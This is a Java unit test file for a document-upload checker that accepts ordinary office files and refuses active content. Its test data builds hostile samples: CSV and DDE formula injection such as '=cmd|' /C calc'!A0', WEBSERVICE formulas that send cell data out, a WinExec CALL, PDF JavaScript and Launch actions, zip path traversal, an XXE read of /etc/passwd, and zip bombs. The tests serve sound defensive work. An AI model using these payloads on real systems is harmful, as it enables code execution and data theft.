package org.lscb.scr.document;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertDoesNotThrow;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.lscb.scr.testing.SampleFiles.docx;
import static org.lscb.scr.testing.SampleFiles.docxParts;
import static org.lscb.scr.testing.SampleFiles.jpeg;
import static org.lscb.scr.testing.SampleFiles.packed;
import static org.lscb.scr.testing.SampleFiles.pdf;
import static org.lscb.scr.testing.SampleFiles.png;
import static org.lscb.scr.testing.SampleFiles.put;
import static org.lscb.scr.testing.SampleFiles.relation;
import static org.lscb.scr.testing.SampleFiles.relations;
import static org.lscb.scr.testing.SampleFiles.xlsx;
import static org.lscb.scr.testing.SampleFiles.xlsxParts;
import static org.lscb.scr.testing.SampleFiles.zip;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.Map;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

/** What is taken and what is not. */
class FileCheckTest {

    private static final String FIELD = "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p>%s</w:p></w:body></w:document>";
    private static final String BEGIN = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>";
    private static final String END = "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";

    private final FileCheck check = new FileCheck(Duration.ofSeconds(20), 2, 2);

    @AfterEach
    void stop() {
        check.stop();
    }

    static Stream<Object[]> goodFiles() throws IOException {
        return Stream.of(new Object[][] {
            {"report.pdf", pdf("A report"), "application/pdf"},
            {"REPORT.PDF", pdf("A report"), "application/pdf"},
            {"packed.pdf", pdf("A report", "", packed(7, "<< /Type /Annot /A << /S /URI /URI (https://example.org) >> >>")), "application/pdf"},
            {"links.pdf", pdf("A report", "/OpenAction [3 0 R /Fit]", "7 0 obj\n<< /S /URI /URI (https://example.org) >>\nendobj\n"), "application/pdf"},
            {"page.pdf", pdf("A report", "/OpenAction 7 0 R", "7 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\n"), "application/pdf"},
            {"letter.docx", docx("A letter"), FileType.DOCX.mediaType()},
            {"made by a library.docx", byPoiWord(), FileType.DOCX.mediaType()},
            {"table.xlsx", xlsx("A table"), FileType.XLSX.mediaType()},
            {"made by a library.xlsx", byPoiExcel(), FileType.XLSX.mediaType()},
            {"link.docx", word(parts -> put(parts, "word/_rels/document.xml.rels", relations(relation("r", "hyperlink", "https://example.org/?a=b:c", "External")))),
                FileType.DOCX.mediaType()},
            {"diagram.docx", word(parts -> parts.put("word/embeddings/workbook.xlsx", xlsx("numbers"))), FileType.DOCX.mediaType()},
            {"contents.docx", field(BEGIN + text("TOC \\o") + BEGIN + text("PAGEREF x") + END + END), FileType.DOCX.mediaType()},
            {"photo.png", png(4000, 3000), "image/png"},
            {"photo.jpg", jpeg(4000, 3000), "image/jpeg"},
            {"photo.jpeg", jpeg(4000, 3000), "image/jpeg"},
            {"note.txt", "Grüße, ŵy. 4 < 5".getBytes(StandardCharsets.UTF_8), "text/plain"},
            {"marked.txt", "\ufeffSeen twice".getBytes(StandardCharsets.UTF_8), "text/plain"},
            {"wide.txt", "\ufeffSeen twice".getBytes(StandardCharsets.UTF_16LE), "text/plain"},
            {"old.txt", "Café – £5".getBytes("windows-1252"), "text/plain"},
            {"mail.txt", "From: a@b\nSubject: visit\n\nText".getBytes(StandardCharsets.UTF_8), "text/plain"},
            {"list.csv", "date;source;event".getBytes(StandardCharsets.UTF_8), "text/csv"},
            {"nothing that counts.csv", csv("date,source,event", "2010-09-24,-,\"Seen; - not heard, = nothing\"", "2010-09-25,-5,+44 20 7946 0018",
                "2010-09-26,-£5.00,-1.5E+03"), "text/csv"},
            {"texts that look like formulas.csv", csv("date,event", "2010-09-24,'=cmd|' /C calc'!A0", "2010-09-25,\"'-2 (see IMAGE(1))\""), "text/csv"},
            {"lines in a cell.csv", csv("date,event", "2010-09-24,\"Two things:\n- seen alone (at home)\n- not heard\"", "2010-09-25,none"), "text/csv"},
            {"mail address.csv", csv("who;where", "Clinic;nurse@example.org", "Ward;a=b"), "text/csv"},
            {"formula.txt", "=cmd|' /C calc'!A0,2".getBytes(StandardCharsets.UTF_8), "text/plain"},
            {"sums.xlsx", formula("SUM(A1:A9)-VLOOKUP(B1,'Police | Health'!A:B,2,FALSE)"), FileType.XLSX.mediaType()},
            {"words in a formula.xlsx", formula("IF(A1=\"\",\"see image (2) | next\",TEXT(A1,\"d mmm\"))&amp;\" | \"&amp;Other!B1"), FileType.XLSX.mediaType()},
            {"contents.xlsx", formula("HYPERLINK(\"#Police!A1\",\"Police\")"), FileType.XLSX.mediaType()},
            {"choice by choice.xlsx", sheet("<dataValidations><dataValidation type=\"list\"><formula1>INDIRECT(\"Wards[\"&amp;A1&amp;\"]\")</formula1></dataValidation></dataValidations>"),
                FileType.XLSX.mediaType()},
            {"text about formulas.xlsx", xlsx("=WEBSERVICE(\"http://example.org\")"), FileType.XLSX.mediaType()}});
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("goodFiles")
    @DisplayName("a file of the list is taken, as what it really is")
    void taken(String name, byte[] file, String mediaType) throws IOException {
        assertThat(check.check(name, Bytes.of(file)).mediaType()).isEqualTo(mediaType);
    }

    static Stream<Object[]> activeContent() {
        return Stream.of(new Object[][] {
            {"macros.docx", word(parts -> contentType(parts, "/word/vbaProject.bin", "application/vnd.ms-office.vbaProject")), "macros"},
            {"macros by relation.docx", word(parts -> put(parts, "word/_rels/document.xml.rels", relations(relation("r", "vbaProject", "x.bin", "")))), "macros"},
            {"main.docx", word(parts -> put(parts, "[Content_Types].xml", text(parts, "[Content_Types].xml")
                .replace("openxmlformats-officedocument.wordprocessingml.document.main", "ms-word.document.macroEnabled.main"))), "macros"},
            {"macros.xlsx", excel(parts -> put(parts, "xl/_rels/workbook.xml.rels", relations(relation("r", "xlMacrosheet", "m.xml", "")))), "macros"},
            {"activex.docx", word(parts -> contentType(parts, "/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")), "embedded object"},
            {"control.docx", word(parts -> put(parts, "word/_rels/document.xml.rels", relations(relation("r", "control", "c.xml", "")))), "embedded object"},
            {"ole.docx", word(parts -> put(parts, "word/_rels/document.xml.rels", relations(relation("r", "oleObject", "e.bin", "")))), "embedded object"},
            {"ole in disguise.docx", word(parts -> parts.put("word/media/picture.png", ole())), "embedded object"},
            {"html.docx", word(parts -> put(parts, "word/_rels/document.xml.rels", relations(relation("r", "aFChunk", "c.html", "")))), "embedded object"},
            {"nested twice.docx", word(parts -> parts.put("word/embeddings/a.docx", word(inner -> inner.put("word/embeddings/b.xlsx", xlsx("x"))))), "embedded object"},
            {"macros nested.docx", word(parts -> parts.put("word/embeddings/a.xlsx", excel(inner ->
                contentType(inner, "/xl/vbaProject.bin", "application/vnd.ms-office.vbaProject")))), "macros"},
            {"template.docx", word(parts -> put(parts, "word/_rels/settings.xml.rels",
                relations(relation("r", "attachedTemplate", "https://example.org/t.dotm", "External")))), "draws on elsewhere"},
            {"remote picture.docx", word(parts -> put(parts, "word/_rels/document.xml.rels",
                relations(relation("r", "image", "http://example.org/p.png", "External")))), "draws on elsewhere"},
            {"share.docx", word(parts -> put(parts, "word/_rels/document.xml.rels", relations(relation("r", "image", "\\\\server\\p.png", "")))), "draws on elsewhere"},
            {"script link.docx", word(parts -> put(parts, "word/_rels/document.xml.rels",
                relations(relation("r", "hyperlink", "javascript:alert(1)", "External")))), "draws on elsewhere"},
            {"data.xlsx", excel(parts -> put(parts, "xl/_rels/workbook.xml.rels", relations(relation("r", "connections", "connections.xml", "")))), "draws on elsewhere"},
            {"dde.xlsx", excel(parts -> put(parts, "xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>")), "draws on elsewhere"},
            {"fetches.xlsx", formula("_xlfn.WEBSERVICE(\"http://example.org/?\"&amp;A1)"), "formula that reaches out"},
            {"fetches a picture.xlsx", formula("IF(A1=1,_xlfn.IMAGE (\"http://example.org/p.png\"),2)"), "formula that reaches out"},
            {"fetches after a text.xlsx", formula("\"a\"&amp;webservice(\"http://example.org\")"), "formula that reaches out"},
            {"quote in a sheet's name.xlsx", formula("'a\"b'!A1&amp;WEBSERVICE(\"http://example.org\")"), "formula that reaches out"},
            {"in pieces.xlsx", formula("WEB<!-- x --><![CDATA[SERVICE]]>(A1)"), "formula that reaches out"},
            {"link with cells in it.xlsx", formula("HYPERLINK(\"http://example.org/?\"&amp;A1,\"see\")"), "formula that reaches out"},
            {"link made elsewhere.xlsx", formula("HYPERLINK(A1)"), "formula that reaches out"},
            {"other book.xlsx", formula("INDIRECT(\"'\\\\server\\[b.xlsx]One'!A1\")"), "formula that reaches out"},
            {"program.xlsx", formula("cmd|'/C calc'!A0"), "formula that reaches out"},
            {"program by function.xlsx", formula("DDE(\"soffice\",\"/x.ods\",\"A1\")+RTD(\"a.b\",,\"c\")"), "formula that reaches out"},
            {"name that calls.xlsx", excel(parts -> put(parts, "xl/workbook.xml", text(parts, "xl/workbook.xml")
                .replace("</workbook>", "<definedNames><definedName name=\"x\">CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)</definedName></definedNames></workbook>"))),
                "formula that reaches out"},
            {"format that fetches.xlsx", sheet("<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\"><formula>WEBSERVICE(A1)=1</formula></cfRule></conditionalFormatting>"),
                "formula that reaches out"},
            {"scale that fetches.xlsx", sheet("<conditionalFormatting sqref=\"A1\"><cfRule><dataBar><cfvo type=\"formula\" val=\"WEBSERVICE(A1)\"/></dataBar></cfRule></conditionalFormatting>"),
                "formula that reaches out"},
            {"check that fetches.xlsx", sheet("<extLst><x:dataValidation xmlns:x=\"a\" xmlns:xm=\"b\"><x:formula1><xm:f>WEBSERVICE(A1)</xm:f></x:formula1></x:dataValidation></extLst>"),
                "formula that reaches out"},
            {"table that fetches.xlsx", excel(parts -> put(parts, "xl/tables/table1.xml",
                "<table><tableColumn><calculatedColumnFormula>WEBSERVICE(A1)</calculatedColumnFormula></tableColumn></table>")), "formula that reaches out"},
            {"sheet under another name.xlsx", excel(parts -> {
                put(parts, "xl/drawings/sheet.vml", text(parts, "xl/worksheets/sheet1.xml").replace("<row>", "<row><c><f>WEBSERVICE(A1)</f></c>"));
                put(parts, "xl/_rels/workbook.xml.rels", relations(relation("r1", "worksheet", "drawings/sheet.vml", "")));
            }), "formula that reaches out"},
            {"book in a letter.docx", word(parts -> parts.put("word/embeddings/a.xlsx", formula("WEBSERVICE(A1)"))), "formula that reaches out"},
            {"text elsewhere.docx", word(parts -> put(parts, "text/document.xml", FIELD.formatted(BEGIN + text("DDEAUTO c:\\cmd") + END))), "field that acts"},
            {"program.csv", csv("=cmd|' /C calc'!A0,2"), "formula in a table"},
            {"program later.csv", csv("date,event", "2010-09-24,=cmd|' /C calc'!A0"), "formula in a table"},
            {"in quotes and after spaces.csv", csv("date,event", "2010-09-24,\" \"\"=1+1\""), "formula in a table"},
            {"at.csv", csv("date,event", "2010-09-24,@SUM(A1)"), "formula in a table"},
            {"plus.csv", csv("date,event", "2010-09-24,+cmd|' /C calc'!A0"), "formula in a table"},
            {"minus.csv", csv("date,event", "2010-09-24,-2+3+HYPERLINK(A1)"), "formula in a table"},
            {"last cell.csv", "date,event\n2010-09-24,=1".getBytes(StandardCharsets.UTF_8), "formula in a table"},
            {"parted otherwise.csv", csv("date;event", "2010-09-24;=1+1"), "formula in a table"},
            {"sign named.csv", csv("sep=|", "date|event", "2010-09-24|=1+1"), "formula in a table"},
            {"two ways to part it.csv", csv("date;event;a;b", "2010-09-24;seen,=cmd|' /C calc'!A0"), "formula in a table"},
            {"quote of the other way.csv", csv("date;event", "a;\"b,=WEBSERVICE(A1)\""), "formula in a table"},
            {"quote that ends early.csv", csv("date,event", "\"a\"b\",=1+1"), "formula in a table"},
            {"wide letters.csv", "\ufeffdate\tevent\n2010\t=1+1".getBytes(StandardCharsets.UTF_16LE), "formula in a table"},
            {"wide sign.csv", csv("date,event", "2010-09-24,\uff1dcmd|' /C calc'!A0"), "formula in a table"},
            {"dde.docx", field(BEGIN + text("DDEAUTO c:\\\\cmd") + END), "field that acts"},
            {"dde in pieces.docx", field(BEGIN + text(" DD") + text("EAU") + text("TO cmd") + END), "field that acts"},
            {"dde simple.docx", field("<w:fldSimple w:instr=\" dde cmd\"/>"), "field that acts"},
            {"dde by quote.docx", field(BEGIN + BEGIN + text("QUOTE 68 68 69") + END + text(" cmd") + END), "field that acts"},
            {"script.pdf", pdf("x", "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", ""), "script"},
            {"script escaped.pdf", pdf("x", "/Names << /J#61vaScript 7 0 R >>", ""), "script"},
            {"script packed.pdf", pdf("x", "/OpenAction 7 0 R", packed(7, "<< /S /JavaScript /JS (x) >>")), "script"},
            {"script in a comment of a stream.pdf", pdf("x) Tj ET\n7 0 obj << /S /JavaScript >> endobj (", "", ""), "script"},
            {"packed in an unusual way.pdf", pdf("x", "", packed(7, "<< >>").replace("/Filter /FlateDecode", "/Filter [/ASCIIHexDecode /FlateDecode]")),
                "damaged or ambiguous"},
            {"packed with a predictor.pdf", pdf("x", "", packed(7, "<< >>").replace("/Length", "/DecodeParms << /Predictor 12 >> /Length")), "damaged or ambiguous"},
            {"packed by reference.pdf", pdf("x", "", packed(7, "<< >>").replace("/Filter /FlateDecode", "/Filter 8 0 R")), "damaged or ambiguous"},
            {"launch.pdf", pdf("x", "/OpenAction << /S /Launch /F (cmd.exe) >>", ""), "action"},
            {"form.pdf", pdf("x", "/AcroForm << /XFA 9 0 R >>", ""), "action"},
            {"opens a page.pdf", pdf("x", "/OpenAction << /S /URI /URI (https://example.org) >>", ""), "action"},
            {"opens a page by reference.pdf", pdf("x", "/OpenAction 7 0 R", "7 0 obj\n<< /S /URI /URI (https://example.org) >>\nendobj\n"), "action"},
            {"opens a page, packed.pdf", pdf("x", "/OpenAction 7 0 R", packed(7, "<< /S /URI /URI (https://example.org) >>")), "action"},
            {"attachment.pdf", pdf("x", "/Names << /EmbeddedFiles << >> >>", ""), "embedded object"},
            {"password.pdf", new String(pdf("x"), StandardCharsets.ISO_8859_1).replace("/Root", "/Encrypt 9 0 R /Root").getBytes(StandardCharsets.ISO_8859_1),
                "encrypted"}});
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("activeContent")
    @DisplayName("what acts when it is opened is not taken")
    void activeContentIsRefused(String name, byte[] file, String reason) {
        assertThatThrownBy(() -> check.check(name, Bytes.of(file))).isInstanceOfSatisfying(FileRefused.class, refused -> {
            assertThat(refused.reason()).isEqualTo(reason);
            assertThat(refused.fields().get("file")).startsWith("File: ").contains("try again");
        });
    }

    static Stream<Object[]> otherKinds() {
        byte[] script = "#!/bin/sh\necho".getBytes(StandardCharsets.US_ASCII);
        return Stream.of(new Object[][] {
            {"program.exe", "MZ program".getBytes(StandardCharsets.US_ASCII), "ending not taken"},
            {"report", pdf("x"), "ending not taken"},
            {"report.pdf.html", pdf("x"), "ending not taken"},
            {"macros.docm", docx("x"), "ending not taken"},
            {"old.doc", ole(), "ending not taken"},
            {"program.txt", new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0}, "kind not taken"},
            {"binary.txt", "a\0b".getBytes(StandardCharsets.US_ASCII), "not text"},
            {"page.txt", "<html><body>".getBytes(StandardCharsets.US_ASCII), "markup"},
            {"page later.csv", "\n\n  <svg onload=x>".getBytes(StandardCharsets.US_ASCII), "markup"},
            {"drawing.png", "<svg xmlns=\"http://www.w3.org/2000/svg\"/>".getBytes(StandardCharsets.US_ASCII), "markup"},
            {"data.pdf", "<?xml version=\"1.0\"?><a/>".getBytes(StandardCharsets.US_ASCII), "markup"},
            {"text.pdf", "just text".getBytes(StandardCharsets.US_ASCII), "kind not taken"},
            {"script.pdf", script, "kind not taken"},
            {"letter.pdf", docx("x"), "name and content differ"},
            {"letter.txt", docx("x"), "name and content differ"},
            {"table.docx", xlsx("x"), "name and content differ"},
            {"report.docx", pdf("x"), "name and content differ"},
            {"photo.png", jpeg(1, 1), "name and content differ"},
            {"password.docx", ole(), "old or encrypted Office file"},
            {"archive.docx", zip(Map.of("a.txt", new byte[] {1})), "archive"}});
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("otherKinds")
    @DisplayName("what is not of the list, or not what its name says, is not taken")
    void otherKindsAreRefused(String name, byte[] file, String reason) {
        assertThat(reasonOf(name, file)).isEqualTo(reason);
    }

    static Stream<Object[]> twoThingsAtOnce() {
        byte[] letter = docx("x");
        return Stream.of(new Object[][] {
            {"archive after a report.pdf", joined(pdf("x"), letter)},
            {"archive after a picture.png", joined(png(1, 1), letter)},
            {"archive after a photo.jpg", joined(jpeg(1, 1), letter)},
            {"text after a picture.png", joined(png(1, 1), "<script>".getBytes(StandardCharsets.US_ASCII))},
            {"report in a photo.jpg", joined(jpeg(1, 1), pdf("x"))},
            {"archive after an archive.docx", joined(letter, letter)},
            {"something after an archive.docx", joined(letter, new byte[10])},
            {"two names for one part.docx", renamedInTable(letter)},
            {"cut off.docx", Arrays.copyOf(letter, letter.length - 30)},
            {"cut off.pdf", Arrays.copyOf(pdf("x"), 200)},
            {"cut off.png", Arrays.copyOf(png(1, 1), 30)},
            {"cut off.jpg", Arrays.copyOf(jpeg(1, 1), 22)},
            {"path.docx", word(parts -> parts.put("../../etc/passwd", new byte[1]))},
            {"type declared.docx", word(parts -> put(parts, "word/document.xml", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"))},
            {"not well-formed.docx", word(parts -> put(parts, "word/document.xml", "<a>"))}});
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("twoThingsAtOnce")
    @DisplayName("what is two things at once, or broken, is not taken")
    void ambiguousFilesAreRefused(String name, byte[] file) {
        assertThat(reasonOf(name, file)).isIn("damaged or ambiguous", "archive");
    }

    @Test
    @DisplayName("an archive that unpacks to very much is refused before it is unpacked")
    void bombs() {
        assertThat(reasonOf("bomb.docx", word(parts -> parts.put("word/media/zeros.png", new byte[20 << 20])))).isEqualTo("unpacks to too much");
        assertThat(reasonOf("many.docx", word(parts -> {
            for (int number = 0; number < 5_001; number++) {
                parts.put("word/" + number, new byte[0]);
            }
        }))).isEqualTo("unpacks to too much");
        assertThat(reasonOf("bomb.pdf", pdf("x", "", packed(7, " ".repeat(17 << 20))))).isEqualTo("unpacks to too much");
    }

    @Test
    @DisplayName("an archive that says that it unpacks to little is held to it")
    void bombThatLies() {
        byte[] bomb = word(parts -> parts.put("word/media/zeros.png", new byte[30 << 20]));
        ByteBuffer bytes = ByteBuffer.wrap(bomb).order(ByteOrder.LITTLE_ENDIAN);
        for (int at = 0; at < bomb.length - 46; at++) {
            if (bytes.getInt(at) == 0x02014b50 && bytes.getInt(at + 24) == 30 << 20) {
                bytes.putInt(at + 24, 1000);
            }
        }
        assertThat(reasonOf("bomb.docx", bomb)).isEqualTo("unpacks to too much");
    }

    @ParameterizedTest
    @CsvSource({"40000,10", "20000,20000", "2147483647,2147483647"})
    @DisplayName("a picture that would fill the memory of whoever shows it is refused")
    void hugePictures(int width, int height) {
        assertThat(reasonOf("photo.png", png(width, height))).isEqualTo("too many pixels");
    }

    @Test
    @DisplayName("a long formula, made to take time, is judged at once")
    void longFormulas() {
        String names = "SUM(" + "a|".repeat(9_000) + "IMAGE ".repeat(300) + ")";
        assertThat(assertDoesNotThrow(() -> check.check("long.xlsx", Bytes.of(formula(names))))).isEqualTo(FileType.XLSX);
        assertThat(reasonOf("longer.xlsx", formula("a|".repeat(20_000)))).isEqualTo("damaged or ambiguous");
        assertThat(reasonOf("long.csv", csv("a,b", "1,-" + "1 ".repeat(100_000) + "x"))).isEqualTo("formula in a table");
    }

    @Test
    @DisplayName("a refusal says in plain words what to do")
    void words() {
        assertThat(wordsOf("report.docx", word(parts -> contentType(parts, "/word/vbaProject.bin", "application/vnd.ms-office.vbaProject"))))
            .isEqualTo("File: this is a Word document with macros; save it without them (.docx) and try again");
        assertThat(wordsOf("letter.pdf", docx("x")))
            .isEqualTo("File: this is a Word document, but its name does not end in .docx; save it under a name that does and try again");
        assertThat(wordsOf("table.xlsx", formula("WEBSERVICE(A1)"))).isEqualTo("File: this Excel workbook has a formula that fetches something, links out of"
            + " the workbook or calls another program, such as WEBSERVICE, IMAGE or HYPERLINK; replace it by its value, or save the workbook as a PDF, and try again");
        assertThat(wordsOf("table.csv", csv("=1"))).isEqualTo("File: a cell of this table begins with =, @, + or - as a formula does; put an apostrophe (')"
            + " in front of it, or save the table as .xlsx, and try again");
    }

    @Test
    @DisplayName("a check that takes too long is given up and makes room for others")
    void slowChecks() throws IOException {
        FileCheck impatient = new FileCheck(Duration.ofSeconds(2), 1, 1);
        Bytes endless = new Bytes() {

            @Override
            public long size() {
                return Long.MAX_VALUE;
            }

            @Override
            public int read(long place, byte[] into, int from, int length) {
                Arrays.fill(into, from, from + length, (byte) 'a');
                return length;
            }
        };
        assertThatThrownBy(() -> impatient.check("endless.txt", endless)).isInstanceOfSatisfying(FileRefused.class,
            refused -> assertThat(refused.reason()).isEqualTo("took too long"));
        assertThat(impatient.check("next.txt", Bytes.of("text".getBytes(StandardCharsets.US_ASCII)))).isEqualTo(FileType.TXT);
        impatient.stop();
    }

    private String reasonOf(String name, byte[] file) {
        return refusal(name, file).reason();
    }

    private String wordsOf(String name, byte[] file) {
        return refusal(name, file).fields().get("file");
    }

    private FileRefused refusal(String name, byte[] file) {
        return assertThrows(FileRefused.class, () -> check.check(name, Bytes.of(file)));
    }

    private static byte[] word(Consumer<Map<String, byte[]>> change) {
        Map<String, byte[]> parts = docxParts("x");
        change.accept(parts);
        return zip(parts);
    }

    private static byte[] excel(Consumer<Map<String, byte[]>> change) {
        Map<String, byte[]> parts = xlsxParts("x");
        change.accept(parts);
        return zip(parts);
    }

    private static byte[] formula(String formula) {
        return excel(parts -> put(parts, "xl/worksheets/sheet1.xml", text(parts, "xl/worksheets/sheet1.xml").replace("<row>", "<row><c><f>" + formula + "</f></c>")));
    }

    /** @param after what follows the cells */
    private static byte[] sheet(String after) {
        return excel(parts -> put(parts, "xl/worksheets/sheet1.xml", text(parts, "xl/worksheets/sheet1.xml").replace("</sheetData>", "</sheetData>" + after)));
    }

    private static byte[] csv(String... lines) {
        return (String.join("\r\n", lines) + "\r\n").getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] field(String runs) {
        return word(parts -> put(parts, "word/document.xml", FIELD.formatted(runs)));
    }

    private static String text(String instruction) {
        return "<w:r><w:instrText>" + instruction + "</w:instrText></w:r>";
    }

    private static String text(Map<String, byte[]> parts, String path) {
        return new String(parts.get(path), StandardCharsets.UTF_8);
    }

    private static void contentType(Map<String, byte[]> parts, String part, String type) {
        put(parts, "[Content_Types].xml", text(parts, "[Content_Types].xml")
            .replace("</Types>", "<Override PartName=\"" + part + "\" ContentType=\"" + type + "\"/></Types>"));
    }

    private static byte[] renamedInTable(byte[] archive) {
        String text = new String(archive, StandardCharsets.ISO_8859_1);
        int last = text.lastIndexOf("word/document.xml");
        return (text.substring(0, last) + "word/document.xmm" + text.substring(last + 17)).getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] joined(byte[] first, byte[] second) {
        byte[] both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    private static byte[] ole() {
        byte[] file = new byte[1024];
        System.arraycopy(new byte[] {(byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, (byte) 0xa1, (byte) 0xb1, 0x1a, (byte) 0xe1}, 0, file, 0, 8);
        return file;
    }

    private static byte[] byPoiWord() throws IOException {
        try (XWPFDocument document = new XWPFDocument(); ByteArrayOutputStream bytes = new ByteArrayOutputStream()) {
            document.createParagraph().createRun().setText("A letter");
            document.createHeader(org.apache.poi.wp.usermodel.HeaderFooterType.DEFAULT).createParagraph().createRun().setText("Head");
            document.write(bytes);
            return bytes.toByteArray();
        }
    }

    private static byte[] byPoiExcel() throws IOException {
        try (XSSFWorkbook workbook = new XSSFWorkbook(); ByteArrayOutputStream bytes = new ByteArrayOutputStream()) {
            workbook.createSheet().createRow(0).createCell(0).setCellValue("A table");
            workbook.write(bytes);
            return bytes.toByteArray();
        }
    }
}
